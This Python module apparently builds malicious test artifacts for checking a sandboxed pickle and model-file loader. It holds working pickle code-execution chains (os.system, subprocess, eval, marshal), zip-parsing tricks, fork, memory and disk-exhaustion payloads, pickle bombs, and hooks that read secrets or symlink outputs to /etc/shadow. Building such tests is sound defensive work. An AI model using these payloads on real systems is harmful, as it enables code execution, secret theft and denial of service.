"""Malicious artifacts, one per technique, built from code (nothing binary is checked in).

Every payload, if it ever ran on the host, leaves a trace the tests can see: it appends to a canary file
outside the jail, connects to a loopback TCP listener the test runs, signals the test process (a jail
that shared the host's process table would let it), and tries to exfiltrate a secret from
the caller's environment and home (returning it in the result and copying it into every folder the jail
could write). Pickle bytes are hand-assembled from opcodes wherever ``pickle.dumps`` cannot express the
technique. ``ATTACKS`` is the registry: ``(name, description, builder)`` plus what the tests expect.

Run ``python -m tests.attacks.generate OUT_DIR`` to write every artifact for manual inspection.
"""

from __future__ import annotations

import io
import marshal
import shlex
import struct
import sys
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from pathlib import Path
from typing import Literal

__all__ = ["ATTACKS", "Attack", "Trace", "by_name", "payload_source", "write_all"]


@dataclass(frozen=True)
class Trace:
    """Where a payload that escaped would leave its marks on the host."""

    canary: Path  # appended to by every payload; must never exist after a sandboxed load
    port: int  # a loopback listener run by the test; must never see a connection
    secret_env: str  # name of an environment variable of the caller holding the secret
    secret_file: Path  # a file in the caller's home holding the secret
    host_pid: int = 0  # when set, the payload sends ``signum`` to this host process
    signum: int = 0


Category = Literal["code", "container", "zip", "dos", "bomb", "tamper"]


@dataclass(frozen=True)
class Attack:
    """One malicious artifact.

    ``globals`` are the ``(module, name)`` pairs the inert unpickler must report as stubs (empty when the
    technique does not guarantee one reaches the unpickler, e.g. zip tricks that hide the payload).
    """

    name: str
    description: str
    build: Callable[[Trace], bytes]
    category: Category
    globals: tuple[tuple[str, str], ...] = ()
    # Inert mode must return a result (not raise) for these; the stub assertion needs one.
    inert_returns: bool = False


# --------------------------------------------------------------------------------------------------
# payload text


def at_output(code: str) -> str:
    """``code`` with the jail's output folder read from ``$SAFELOAD_OUT`` instead of spelled ``/out``:
    the jail without namespaces has no ``/out``, only the real folder it may write."""
    code = code.replace("f'/out/", "f'{_OUT}/").replace("'/out/", "_OUT + '/").replace("'/out'", "_OUT")
    return "_OUT = __import__('os').environ.get('SAFELOAD_OUT', '/out')\n" + code


def payload_source(trace: Trace, extra: str = "") -> str:
    """Python source that leaves every trace; it sets ``leak`` to whatever secret it could read.

    The traces: the canary file, a connection to the listener, a signal to the host process (when the
    trace names one), and the secret copied next to the canary and into every folder it can write.

    Each step tolerates failure, so inside the jail the payload goes on to whatever comes after it.
    """
    return at_output(
        "import os, socket\n"
        "try:\n"
        f"    open({str(trace.canary)!r}, 'a').write('payload ran\\n')\n"
        "except OSError:\n"
        "    pass\n"
        "try:\n"
        f"    socket.create_connection(('127.0.0.1', {trace.port}), timeout=2).close()\n"
        "except OSError:\n"
        "    pass\n"
        f"leak = os.environ.get({trace.secret_env!r}) or ''\n"
        "try:\n"
        f"    leak += open({str(trace.secret_file)!r}).read()\n"
        "except OSError:\n"
        "    pass\n"
        + (
            "try:\n"
            f"    os.kill({int(trace.host_pid)}, {int(trace.signum)})\n"
            "except OSError:\n"
            "    pass\n"
            if trace.host_pid and trace.signum else ""
        )
        + "for _d in ('/out', '/tmp', os.path.dirname(" + repr(str(trace.canary)) + ")):\n"
        "    try:\n"
        "        open(os.path.join(_d, 'leak.txt'), 'a').write(leak)\n"
        "    except OSError:\n"
        "        pass\n" + extra
    )


def _eval_expr(trace: Trace, extra: str = "") -> str:
    """An expression that runs the payload and evaluates to the leaked secret."""
    return f"[exec({payload_source(trace, extra)!r}, g := {{}}), g.get('leak')][1]"


def _shell(trace: Trace) -> str:
    """A shell command that leaves every trace (through the system's Python for the socket)."""
    return (
        f"python3 -c {shlex.quote(payload_source(trace))} 2>/dev/null; "
        f"echo shell ran >> {shlex.quote(str(trace.canary))}"
    )


# --------------------------------------------------------------------------------------------------
# pickle opcodes (see pickletools); every helper returns the bytes that push one value

PROTO2 = b"\x80\x02"
MARK, TUPLE, REDUCE, STOP, EMPTY_DICT, SETITEMS = b"(", b"t", b"R", b".", b"}", b"u"
EMPTY_LIST, APPENDS, EMPTY_TUPLE, NEWFALSE, BINPERSID = b"]", b"e", b")", b"\x89", b"Q"


def _s(text: str) -> bytes:
    raw = text.encode("utf-8")
    return b"X" + struct.pack("<I", len(raw)) + raw


def _b(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def _int(value: int) -> bytes:
    return b"J" + struct.pack("<i", value)


def _glob(module: str, name: str) -> bytes:
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def _tuple(*items: bytes) -> bytes:
    return MARK + b"".join(items) + TUPLE if items else EMPTY_TUPLE


def _list(*items: bytes) -> bytes:
    return EMPTY_LIST + (MARK + b"".join(items) + APPENDS if items else b"")


def _call(func: bytes, *args: bytes) -> bytes:
    return func + _tuple(*args) + REDUCE


def _dict(*pairs: tuple[str, bytes]) -> bytes:
    return EMPTY_DICT + MARK + b"".join(_s(k) + v for k, v in pairs) + SETITEMS


def _pickle(value: bytes) -> bytes:
    return PROTO2 + value + STOP


def _eval_call(trace: Trace, extra: str = "") -> bytes:
    return _call(_glob("builtins", "eval"), _s(_eval_expr(trace, extra)))


def _tensor_ref(key: str, numel: int) -> bytes:
    """A float32 tensor backed by the storage record ``data/<key>`` of a torch zip."""
    storage = _tuple(_s("storage"), _glob("torch", "FloatStorage"), _s(key), _s("cpu"), _int(numel))
    return _call(
        _glob("torch._utils", "_rebuild_tensor_v2"),
        storage + BINPERSID, _int(0), _tuple(_int(numel)), _tuple(_int(1)), NEWFALSE,
        _call(_glob("collections", "OrderedDict")),
    )


# --------------------------------------------------------------------------------------------------
# code execution through the pickle stream


def _reduce(module: str, name: str, arg: Callable[[Trace], bytes]) -> Callable[[Trace], bytes]:
    return lambda t: _pickle(_call(_glob(module, name), arg(t)))


def _popen(t: Trace) -> bytes:
    return _pickle(_call(_glob("subprocess", "Popen"), _list(_s("/bin/sh"), _s("-c"), _s(_shell(t)))))


def _getattr_chain(t: Trace) -> bytes:
    os_mod = _call(_glob("builtins", "__import__"), _s("os"))
    system = _call(_glob("builtins", "getattr"), os_mod, _s("system"))
    return _pickle(system + _tuple(_s(_shell(t))) + REDUCE)


def _importlib_chain(t: Trace) -> bytes:
    os_mod = _call(_glob("importlib", "import_module"), _s("os"))
    system = _call(_glob("builtins", "getattr"), os_mod, _s("system"))
    return _pickle(system + _tuple(_s(_shell(t))) + REDUCE)


def _resolve_name(t: Trace) -> bytes:
    system = _call(_glob("pkgutil", "resolve_name"), _s("os:system"))
    return _pickle(system + _tuple(_s(_shell(t))) + REDUCE)


def _pydoc_locate(t: Trace) -> bytes:
    system = _call(_glob("pydoc", "locate"), _s("os.system"))
    return _pickle(system + _tuple(_s(_shell(t))) + REDUCE)


def _methodcaller(t: Trace) -> bytes:
    caller = _call(_glob("operator", "methodcaller"), _s("system"), _s(_shell(t)))
    os_mod = _call(_glob("builtins", "__import__"), _s("os"))
    return _pickle(caller + _tuple(os_mod) + REDUCE)


def _marshal_code(t: Trace) -> bytes:
    code = compile(payload_source(t) + "return_value = leak\n", "<checkpoint>", "exec")
    func = _call(
        _glob("types", "FunctionType"), _call(_glob("marshal", "loads"), _b(marshal.dumps(code))), EMPTY_DICT
    )
    return _pickle(func + EMPTY_TUPLE + REDUCE)


def _p0(text: str) -> bytes:
    """A protocol-0 string literal (``S'...'``) the way pickle's text protocol spells it."""
    return b"S" + repr(text).encode("ascii", "backslashreplace") + b"\n"


def _proto0_text(t: Trace) -> bytes:
    return b"cbuiltins\neval\n(" + _p0(_eval_expr(t)) + b"tR."


def _inst(t: Trace) -> bytes:
    return b"(" + _p0(_shell(t)) + b"ios\nsystem\n."


def _obj(t: Trace) -> bytes:
    return b"(cbuiltins\neval\n" + _p0(_eval_expr(t)) + b"o."


def _stack_global_memo(t: Trace) -> bytes:
    """Protocol 4: the global's names go through the memo before STACK_GLOBAL assembles them."""
    body = (
        b"\x8c\x08builtins\x94"  # SHORT_BINUNICODE, MEMOIZE -> memo 0
        b"\x8c\x04eval\x94"  # memo 1
        b"00"  # POP, POP: nothing left on the stack that names the global
        b"h\x00h\x01"  # BINGET 0, BINGET 1
        b"\x93\x94"  # STACK_GLOBAL, MEMOIZE -> memo 2
        + _s(_eval_expr(t))
        + b"\x85R"  # TUPLE1, REDUCE
    )
    return b"\x80\x04" + body + STOP


def _nested_loads(t: Trace) -> bytes:
    inner = _pickle(_eval_call(t))
    return _pickle(_call(_glob("pickle", "loads"), _b(inner)))


def _nested_loads_underscore(t: Trace) -> bytes:
    inner = _pickle(_call(_glob("os", "system"), _s(_shell(t))))
    return _pickle(_call(_glob("_pickle", "loads"), _b(inner)))


# --------------------------------------------------------------------------------------------------
# containers: torch zip, torch legacy, numpy

_FLOATS = struct.pack("<4f", 1.0, 2.0, 3.0, 4.0)


def _evil_data_pkl(t: Trace, extra: str = "") -> bytes:
    return _pickle(_dict(("weight", _tensor_ref("0", 4)), ("evil", _eval_call(t, extra))))


def _benign_data_pkl() -> bytes:
    return _pickle(_dict(("weight", _tensor_ref("0", 4))))


@dataclass(frozen=True)
class _Member:
    name: str
    data: bytes
    flags: int = 0
    crc: int | None = None


def _raw_zip(members: Sequence[_Member], central: Sequence[tuple[int, str | None]] | None = None) -> bytes:
    """A stored (uncompressed) zip written by hand so local headers and directory can disagree.

    ``central`` lists ``(index of the local header, name to record or None for the local one)``; by
    default every member appears once under its own name.
    """
    out = io.BytesIO()
    offsets: list[int] = []
    for m in members:
        offsets.append(out.tell())
        name = m.name.encode()
        crc = zlib.crc32(m.data) if m.crc is None else m.crc
        out.write(struct.pack("<4sHHHHHIIIHH", b"PK\x03\x04", 20, m.flags, 0, 0, 0x21, crc,
                              len(m.data), len(m.data), len(name), 0))
        out.write(name)
        out.write(m.data)
    cd_start = out.tell()
    entries = central if central is not None else [(i, None) for i in range(len(members))]
    for index, cd_name in entries:
        m = members[index]
        name = (cd_name if cd_name is not None else m.name).encode()
        crc = zlib.crc32(m.data) if m.crc is None else m.crc
        out.write(struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, m.flags, 0, 0, 0x21, crc,
                              len(m.data), len(m.data), len(name), 0, 0, 0, 0, 0, offsets[index]))
        out.write(name)
    cd_size = out.tell() - cd_start
    n = len(entries)
    out.write(struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, n, n, cd_size, cd_start, 0))
    return out.getvalue()


def _torch_members(data_pkl: bytes, prefix: str = "archive") -> list[_Member]:
    return [
        _Member(f"{prefix}/data.pkl", data_pkl),
        _Member(f"{prefix}/byteorder", b"little"),
        _Member(f"{prefix}/data/0", _FLOATS),
        _Member(f"{prefix}/version", b"3\n"),
    ]


def _torch_zip(t: Trace) -> bytes:
    return _raw_zip(_torch_members(_evil_data_pkl(t)))


def _storage_bytes(inner: bytes) -> bytes:
    """``pickle.dump`` of a tensor: each storage is ``torch.storage._load_from_bytes(<torch.save file>)``."""
    return _pickle(_dict(("w", _call(_glob("torch.storage", "_load_from_bytes"), _b(inner)))))


def _storage_bytes_legacy(t: Trace) -> bytes:
    return _storage_bytes(_torch_legacy(t))


def _storage_bytes_zip(t: Trace) -> bytes:
    return _storage_bytes(_torch_zip(t))


def _torch_zip_deflated(t: Trace) -> bytes:
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w", zipfile.ZIP_DEFLATED) as zf:
        for m in _torch_members(_evil_data_pkl(t), prefix="model"):
            zf.writestr(m.name, m.data)
    return buf.getvalue()


_LEGACY_MAGIC = PROTO2 + b"\x8a\x0a" + (0x1950A86A20F9469CFC6C).to_bytes(10, "little") + STOP


def _legacy_prelude() -> bytes:
    sys_info = _pickle(
        _dict(
            ("protocol_version", _int(1001)),
            ("little_endian", b"\x88"),
            ("type_sizes", _dict(("short", _int(2)), ("int", _int(4)), ("long", _int(4)))),
        )
    )
    return _LEGACY_MAGIC + _pickle(_int(1001)) + sys_info


def _torch_legacy(t: Trace) -> bytes:
    return _legacy_prelude() + _pickle(_dict(("evil", _eval_call(t)))) + _pickle(EMPTY_LIST)


def _torch_legacy_keys(t: Trace) -> bytes:
    """The payload hides in the storage-keys pickle that follows the main one."""
    return _legacy_prelude() + _pickle(EMPTY_DICT) + _pickle(_eval_call(t))


def _torch_legacy_tar(t: Trace) -> bytes:
    """The torch < 0.4 tar format; torch unpickles the ``storages`` member first."""
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in (("sys_info", _legacy_prelude()), ("storages", _pickle(_eval_call(t))),
                           ("tensors", _pickle(_int(0))), ("pickle", _pickle(EMPTY_DICT))):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def _rebuild_from_type(t: Trace) -> bytes:
    """An allowlisted-looking torch rebuild function handed a malicious callable: it calls func(*args)."""
    return _pickle(_call(
        _glob("torch._tensor", "_rebuild_from_type_v2"),
        _glob("os", "system"), _glob("torch", "Tensor"), _tuple(_s(_shell(t))), EMPTY_DICT,
    ))


def _npy_object(pickled: bytes) -> bytes:
    header = "{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    pad = -(10 + len(header) + 1) % 64
    raw = (header + " " * pad + "\n").encode("latin1")
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(raw)) + raw + pickled


def _npy(t: Trace) -> bytes:
    return _npy_object(_pickle(_list(_eval_call(t))))


def _npz(t: Trace) -> bytes:
    benign = b"\x93NUMPY\x01\x00" + struct.pack("<H", 118) + (
        "{'descr': '<f4', 'fortran_order': False, 'shape': (4,), }".ljust(117) + "\n"
    ).encode() + _FLOATS
    return _raw_zip([_Member("weights.npy", benign), _Member("evil.npy", _npy(t))])


def _joblib_like(t: Trace) -> bytes:
    """joblib's numpy wrapper class as the callable, the way joblib dumps look."""
    return _pickle(_call(_glob("joblib.numpy_pickle", "NumpyArrayWrapper"), _eval_call(t)))


# --------------------------------------------------------------------------------------------------
# zip tricks


def _zip_flag_bits(t: Trace) -> bytes:
    members = _torch_members(_evil_data_pkl(t))
    # encrypted, data descriptor, strong encryption and a reserved bit, with no descriptor present
    members[0] = _Member(members[0].name, members[0].data, flags=0x0001 | 0x0008 | 0x0040 | 0x4000)
    return _raw_zip(members)


def _zip_cd_benign(t: Trace) -> bytes:
    """A malicious local header first; the central directory points past it at a benign data.pkl."""
    members = [_Member("archive/data.pkl", _evil_data_pkl(t)), *_torch_members(_benign_data_pkl())]
    return _raw_zip(members, [(i, None) for i in range(1, len(members))])


def _zip_cd_renamed(t: Trace) -> bytes:
    """The directory calls a member data.pkl whose local header names it something else."""
    members = _torch_members(_evil_data_pkl(t))
    members[0] = _Member("archive/notes.txt", members[0].data)
    return _raw_zip(members, [(0, "archive/data.pkl"), (1, None), (2, None), (3, None)])


def _zip_extra_pkl(t: Trace) -> bytes:
    evil = _pickle(_eval_call(t))
    members = [
        *_torch_members(_benign_data_pkl()),
        _Member("archive/extra.pkl", evil),
        _Member("archive/data/evil.pkl", evil),
        _Member("archive/constants.pkl", evil),
        _Member("archive/code/__torch__.py", b"import os\nos.system('true')\n"),
    ]
    return _raw_zip(members)


def _zip_bad_crc(t: Trace) -> bytes:
    members = _torch_members(_evil_data_pkl(t))
    members[0] = _Member(members[0].name, members[0].data, crc=0xDEADBEEF)
    return _raw_zip(members)


def _zip_duplicate(t: Trace) -> bytes:
    # Readers disagree on which duplicate wins: miniz (torch) takes the first, Python's zipfile the last.
    members = [_Member("archive/data.pkl", _evil_data_pkl(t)), *_torch_members(_benign_data_pkl())]
    return _raw_zip(members)


# --------------------------------------------------------------------------------------------------
# denial of service


def _exec_value(t: Trace, code: str) -> bytes:
    return _call(_glob("builtins", "exec"), _s(payload_source(t) + code), EMPTY_DICT)


def _exec_call(t: Trace, code: str) -> bytes:
    return _pickle(_exec_value(t, code))


def _dos_sleep(t: Trace) -> bytes:
    return _pickle(_call(_glob("time", "sleep"), _int(3600)))


def _dos_busy(t: Trace) -> bytes:
    return _exec_call(t, "while True:\n    pass\n")


def _dos_memory(t: Trace) -> bytes:
    return _exec_call(t, "hog = []\nwhile True:\n    hog.append(bytearray(1 << 24))\n")


def _dos_fork(t: Trace) -> bytes:
    # Bounded (2**8 processes) so a broken jail cannot take the CI machine down; each child leaves its
    # session and outlives the load unless the jail kills every process it started.
    code = (
        "import time\n"
        "for _ in range(8):\n"
        "    try:\n"
        "        if os.fork() == 0:\n"
        "            os.setsid()\n"
        "    except OSError:\n"
        "        break\n"
        "time.sleep(3600)\n"
        f"open({str(t.canary)!r}, 'a').write('forked child outlived the load\\n')\n"
    )
    return _exec_call(t, code)


def _dos_disk(t: Trace) -> bytes:
    code = (
        "chunk = b'x' * (1 << 20)\n"
        "for _path in ('/out/fill', '/tmp/fill'):\n"
        "    try:\n"
        "        with open(_path, 'wb') as fh:\n"
        "            while True:\n"
        "                fh.write(chunk)\n"
        "    except OSError:\n"
        "        pass\n"
        "while True:\n"
        "    pass\n"
    )
    return _exec_call(t, at_output(code))


# pickle-structure bombs: no global at all, only the shape of the data


def _bomb_deep(t: Trace) -> bytes:
    depth = 200_000
    return PROTO2 + EMPTY_LIST * depth + b"a" * (depth - 1) + STOP


def _bomb_laughs(t: Trace) -> bytes:
    """Each level holds the previous one twice (through the memo): 2**64 leaves if expanded."""
    out = bytearray(PROTO2 + EMPTY_LIST + b"q\x000")  # memo 0 = [], POP
    for level in range(1, 65):
        get = b"j" + struct.pack("<I", level - 1)  # LONG_BINGET
        out += EMPTY_LIST + MARK + get + get + APPENDS + b"r" + struct.pack("<I", level)  # LONG_BINPUT
        if level < 64:
            out += b"0"  # POP: only the top level stays on the stack
    return bytes(out + STOP)


def _bomb_length(t: Trace) -> bytes:
    """A BINBYTES8 that claims 2**62 bytes, in a stream of a few bytes."""
    return b"\x80\x04\x8e" + struct.pack("<Q", 1 << 62) + b"x" * 16 + STOP


# --------------------------------------------------------------------------------------------------
# output tampering (execute mode: the payload runs in the jail and attacks the worker's output)

_TAMPER_HOOK = """
import atexit, os as _os
_real_replace = _os.replace
def _after_output():
    try:
        TAMPER
    except Exception:
        pass
def _replace(src, dst, *a, **k):
    _real_replace(src, dst, *a, **k)
    if str(dst).endswith('manifest.json'):
        _after_output()
_os.replace = _replace
_os.rename = _replace
atexit.register(_after_output)
"""


def _tamper(action: str) -> Callable[[Trace], bytes]:
    def build(t: Trace) -> bytes:
        body = action.replace("SECRET", repr(str(t.secret_file)))
        hook = at_output(_TAMPER_HOOK.replace("TAMPER", body.replace("\n", "\n        ")))
        # The payload evaluates to a numpy array, so the worker writes a safetensors file for it to attack
        # (a raw pickle and numpy rather than a torch zip: no torch import, a fast load in the jail).
        src = payload_source(t) + hook
        expr = f"[exec({src!r}, g := {{}}), __import__('numpy').arange(4.0)][1]"
        return _pickle(_call(_glob("builtins", "eval"), _s(expr)))

    return build


def _swap(name: str, make: str) -> str:
    return f"p = '/out/{name}'\nif os.path.lexists(p):\n    os.unlink(p)\n{make}"


_FORGED_TENSOR = (
    "{'t': 'tensor', 'storage': 0, 'offset': OFF, 'shape': SHAPE, 'stride': STRIDE, "
    "'dtype': 'float32', 'requires_grad': False}"
)


def _forged(storage_source: str, node: str) -> str:
    return (
        "import json\n"
        "m = {'version': 1, 'format': 'pickle', 'byteorder': 'little', 'globals': [], "
        f"'storages': [{{'id': 0, 'dtype': 'float32', 'nbytes': 16, 'location': 'cpu', "
        f"'source': {storage_source}}}], 'root': {node}}}\n"
        "p = '/out/manifest.json'\nos.unlink(p)\nopen(p, 'w').write(json.dumps(m))\n"
    )


_INPUT_SRC = "{'kind': 'input', 'offset': 0, 'length': 16}"


def _tensor_node(off: str, shape: str, stride: str) -> str:
    return _FORGED_TENSOR.replace("OFF", off).replace("SHAPE", shape).replace("STRIDE", stride)


_TAMPERS: list[tuple[str, str, str]] = [
    ("tamper_manifest_symlink_shadow", "manifest.json replaced by a symlink to /etc/shadow",
     _swap("manifest.json", "os.symlink('/etc/shadow', p)")),
    ("tamper_manifest_symlink_secret", "manifest.json replaced by a symlink to the caller's secret file",
     _swap("manifest.json", "os.symlink(SECRET, p)")),
    ("tamper_safetensors_symlink_secret", "tensors.safetensors replaced by a symlink to the caller's secret",
     _swap("tensors.safetensors", "os.symlink(SECRET, p)")),
    ("tamper_manifest_fifo", "manifest.json replaced by a FIFO (a host that opens it blocks forever)",
     _swap("manifest.json", "os.mkfifo(p)")),
    ("tamper_manifest_hardlink", "manifest.json given a second link (nlink == 2)",
     "os.link('/out/manifest.json', '/out/manifest.link')\n"),
    ("tamper_safetensors_hardlink", "tensors.safetensors given a second link (nlink == 2)",
     "os.link('/out/tensors.safetensors', '/out/tensors.link')\n"),
    ("tamper_manifest_directory", "manifest.json replaced by a directory",
     _swap("manifest.json", "os.mkdir(p)")),
    # Sizes stay under the jail's file-size limit (the tests' output cap is 256 MiB), so the tampering
    # takes effect and it is the host's validation that has to refuse it.
    ("tamper_safetensors_oversized", "tensors.safetensors grown (sparse) to 200 MiB past its header's end",
     "os.truncate('/out/tensors.safetensors', 200 << 20)\n"),
    ("tamper_safetensors_truncated", "tensors.safetensors cut in half",
     "os.truncate('/out/tensors.safetensors', os.path.getsize('/out/tensors.safetensors') // 2)\n"),
    ("tamper_safetensors_header_bomb", "safetensors header length claiming 2**60 bytes",
     "open('/out/tensors.safetensors', 'r+b').write((1 << 60).to_bytes(8, 'little'))\n"),
    ("tamper_manifest_huge", "manifest.json grown (sparse) to 200 MiB of NUL bytes",
     "os.truncate('/out/manifest.json', 200 << 20)\n"),
    ("tamper_output_many_files", "20 000 extra files in the output folder",
     "for i in range(20000):\n    open(f'/out/junk{i}', 'w').close()\n"),
    ("tamper_manifest_not_json", "manifest.json overwritten with invalid JSON",
     "open('/out/manifest.json', 'w').write('{\"version\": 1, \"root\": ' * 100000)\n"),
    # The worker fails on purpose (exit 4) after planting error.json: a host that reads the error through
    # the symlink would put the secret into the exception message.
    ("tamper_error_symlink_secret", "error.json a symlink to the caller's secret, worker exits 4",
     "os.unlink('/out/manifest.json')\nos.symlink(SECRET, '/out/error.json')\nos._exit(4)\n"),
    ("tamper_error_fifo", "error.json a FIFO, worker exits 4",
     "os.unlink('/out/manifest.json')\nos.mkfifo('/out/error.json')\nos._exit(4)\n"),
    ("tamper_error_huge", "error.json of 100 MiB claiming kind 'limit', worker exits 3",
     "os.unlink('/out/manifest.json')\n"
     "open('/out/error.json', 'w').write('{\"version\": 1, \"kind\": \"limit\", \"message\": \"' "
     "+ 'A' * (100 << 20) + '\"}')\nos._exit(3)\n"),
    ("tamper_forged_input_offset", "forged manifest: an input storage at an offset past the file's end",
     _forged("{'kind': 'input', 'offset': 1 << 40, 'length': 16}", _tensor_node("0", "[4]", "[1]"))),
    ("tamper_forged_input_negative", "forged manifest: an input storage at a negative offset",
     _forged("{'kind': 'input', 'offset': -4096, 'length': 16}", _tensor_node("0", "[4]", "[1]"))),
    ("tamper_forged_view_oob", "forged manifest: a tensor view reaching past its storage",
     _forged(_INPUT_SRC, _tensor_node("2", "[4, 1000]", "[1000, 1]"))),
    ("tamper_forged_negative_stride", "forged manifest: a negative stride walking before the storage",
     _forged(_INPUT_SRC, _tensor_node("0", "[4]", "[-1000]"))),
    ("tamper_forged_storage_id", "forged manifest: a tensor naming a storage id that does not exist",
     _forged(_INPUT_SRC, _tensor_node("0", "[4]", "[1]").replace("'storage': 0", "'storage': 7"))),
    ("tamper_forged_dangling_ref", "forged manifest: a ref to an id never defined",
     _forged(_INPUT_SRC, "{'t': 'list', 'id': 0, 'items': [{'t': 'ref', 'id': 99}]}")),
    ("tamper_forged_duplicate_id", "forged manifest: two containers with the same id",
     _forged(_INPUT_SRC, "{'t': 'list', 'id': 0, 'items': [{'t': 'list', 'id': 0, 'items': []}]}")),
    ("tamper_forged_output_key", "forged manifest: an output storage whose safetensors key is missing",
     _forged("{'kind': 'output', 'key': 'nope'}", _tensor_node("0", "[4]", "[1]"))),
    ("tamper_forged_bad_dtype", "forged manifest: a dtype outside the allowed list",
     _forged(_INPUT_SRC, _tensor_node("0", "[4]", "[1]").replace("'float32'", "'object'"))),
]


# --------------------------------------------------------------------------------------------------
# the registry

_SYS = ("os", "system")
ATTACKS: tuple[Attack, ...] = (
    Attack("reduce_os_system", "REDUCE os.system(shell)", _reduce("os", "system", lambda t: _s(_shell(t))),
           "code", (_SYS,), True),
    Attack("reduce_posix_system", "REDUCE posix.system(shell)",
           _reduce("posix", "system", lambda t: _s(_shell(t))), "code", (("posix", "system"),), True),
    Attack("reduce_subprocess_popen", "REDUCE subprocess.Popen(['/bin/sh', '-c', shell])", _popen, "code",
           (("subprocess", "Popen"),), True),
    Attack("reduce_builtins_exec", "REDUCE builtins.exec(python source)",
           _reduce("builtins", "exec", lambda t: _s(payload_source(t))), "code",
           (("builtins", "exec"),), True),
    Attack("reduce_builtins_eval", "REDUCE builtins.eval(expression that returns the secret)",
           lambda t: _pickle(_eval_call(t)), "code", (("builtins", "eval"),), True),
    Attack("getattr_chain", "builtins.getattr(builtins.__import__('os'), 'system')(shell)", _getattr_chain,
           "code", (("builtins", "getattr"), ("builtins", "__import__")), True),
    Attack("importlib_chain", "getattr(importlib.import_module('os'), 'system')(shell)", _importlib_chain,
           "code", (("importlib", "import_module"), ("builtins", "getattr")), True),
    Attack("pkgutil_resolve_name", "pkgutil.resolve_name('os:system')(shell)", _resolve_name, "code",
           (("pkgutil", "resolve_name"),), True),
    Attack("pydoc_locate", "pydoc.locate('os.system')(shell)", _pydoc_locate, "code",
           (("pydoc", "locate"),), True),
    Attack("operator_methodcaller", "operator.methodcaller('system', shell)(__import__('os'))", _methodcaller,
           "code", (("operator", "methodcaller"),), True),
    Attack("marshal_code", "types.FunctionType(marshal.loads(code object), {})()", _marshal_code, "code",
           (("types", "FunctionType"), ("marshal", "loads")), True),
    Attack("proto0_text", "protocol 0 text pickle: c GLOBAL, S string, t TUPLE, R REDUCE", _proto0_text,
           "code", (("builtins", "eval"),), True),
    Attack("inst_opcode", "protocol 0 INST opcode calling os.system", _inst, "code", (_SYS,), True),
    Attack("obj_opcode", "protocol 1 OBJ opcode calling builtins.eval", _obj, "code",
           (("builtins", "eval"),), True),
    Attack("stack_global_memo", "protocol 4 STACK_GLOBAL whose names come from the memo", _stack_global_memo,
           "code", (("builtins", "eval"),), True),
    Attack("nested_pickle_loads", "pickle.loads(inner pickle calling eval)", _nested_loads, "code",
           (("pickle", "loads"),), True),
    Attack("nested_c_pickle_loads", "_pickle.loads(inner pickle calling os.system)", _nested_loads_underscore,
           "code", (("_pickle", "loads"),), True),
    Attack("torch_zip", "torch zip whose data.pkl holds a tensor and an eval payload", _torch_zip,
           "container", (("builtins", "eval"),), True),
    Attack("torch_zip_deflated", "torch zip, compressed members, other archive prefix, eval payload",
           _torch_zip_deflated, "container", (("builtins", "eval"),), True),
    Attack("torch_legacy", "legacy (non-zip) torch file whose main pickle calls eval", _torch_legacy,
           "container", (("builtins", "eval"),), True),
    Attack("storage_bytes_legacy", "plain pickle whose storage bytes are a legacy torch file calling eval",
           _storage_bytes_legacy, "container", (("builtins", "eval"),), True),
    Attack("storage_bytes_zip", "plain pickle whose storage bytes are a torch zip calling eval",
           _storage_bytes_zip, "container", (("builtins", "eval"),), True),
    Attack("torch_legacy_keys", "legacy torch file whose storage-keys pickle calls eval", _torch_legacy_keys,
           "container"),
    Attack("torch_legacy_tar", "torch < 0.4 tar format whose storages member calls eval", _torch_legacy_tar,
           "container"),
    Attack("rebuild_from_type_v2", "torch._tensor._rebuild_from_type_v2(os.system, Tensor, (shell,), {})",
           _rebuild_from_type, "code", (_SYS,)),
    Attack("numpy_object_npy", ".npy object array whose pickle calls eval", _npy, "container",
           (("builtins", "eval"),), True),
    Attack("numpy_npz", ".npz with a numeric member and an object member whose pickle calls eval", _npz,
           "container", (("builtins", "eval"),), True),
    Attack("joblib_wrapper", "joblib-looking pickle whose wrapper class is called with an eval payload",
           _joblib_like, "container", (("builtins", "eval"),), True),
    Attack("zip_flag_bits", "torch zip, data.pkl flagged encrypted + data descriptor + reserved bits",
           _zip_flag_bits, "zip"),
    Attack("zip_cd_benign", "malicious local data.pkl the central directory skips for a benign one",
           _zip_cd_benign, "zip"),
    Attack("zip_cd_renamed", "central directory names data.pkl a member whose local header says notes.txt",
           _zip_cd_renamed, "zip"),
    Attack("zip_extra_pkl", "benign data.pkl plus malicious extra.pkl, data/evil.pkl, constants.pkl, code/",
           _zip_extra_pkl, "zip"),
    Attack("zip_bad_crc", "torch zip whose malicious data.pkl has a wrong CRC", _zip_bad_crc, "zip"),
    Attack("zip_duplicate_names", "two data.pkl members, malicious first, benign second", _zip_duplicate,
           "zip"),
    Attack("dos_sleep", "REDUCE time.sleep(3600)", _dos_sleep, "dos", (("time", "sleep"),), True),
    Attack("dos_busy_loop", "exec('while True: pass')", _dos_busy, "dos", (("builtins", "exec"),), True),
    Attack("dos_memory", "exec: allocate 16 MiB blocks forever", _dos_memory, "dos",
           (("builtins", "exec"),), True),
    Attack("dos_fork", "exec: 2**8 forked children in new sessions, each sleeping an hour", _dos_fork, "dos",
           (("builtins", "exec"),), True),
    Attack("dos_disk_fill", "exec: write /out/fill and /tmp/fill until the disk is full", _dos_disk, "dos",
           (("builtins", "exec"),), True),
    Attack("bomb_deep_nesting", "200 000 nested lists, no globals", _bomb_deep, "bomb"),
    Attack("bomb_billion_laughs", "64 levels, each holding the previous twice through the memo",
           _bomb_laughs, "bomb"),
    Attack("bomb_length_prefix", "BINBYTES8 claiming 2**62 bytes", _bomb_length, "bomb"),
    *(
        Attack(name, desc, _tamper(action), "tamper", (("builtins", "eval"),), True)
        for name, desc, action in _TAMPERS
    ),
)


def by_name(name: str) -> Attack:
    """The registered attack called ``name`` (KeyError if none)."""
